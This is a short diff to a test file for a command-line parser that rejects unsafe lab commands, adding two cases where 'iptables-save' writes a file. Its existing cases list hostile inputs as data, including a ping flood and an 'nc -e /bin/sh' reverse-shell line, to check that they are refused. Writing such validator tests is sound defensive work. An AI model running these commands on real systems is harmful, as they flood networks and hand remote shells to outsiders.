@@ -128,6 +128,8 @@ describe("parseLine: bad input names the line and the problem", () => {
     ["ping -f 10.0.0.1", /flood/],
     ["nc -e /bin/sh 10.0.0.1 80", /running a program/],
     ["sleep 1000", /at most 120/],
+    ["iptables-save -f /etc/x", /writes a file on the machine/],
+    ["iptables-save --file=/tmp/x", /writes a file on the machine/],
   ])("%s", (line, re) => {
     const m = err(line);
     expect(m.startsWith("lab.lab:7: ")).toBe(true);
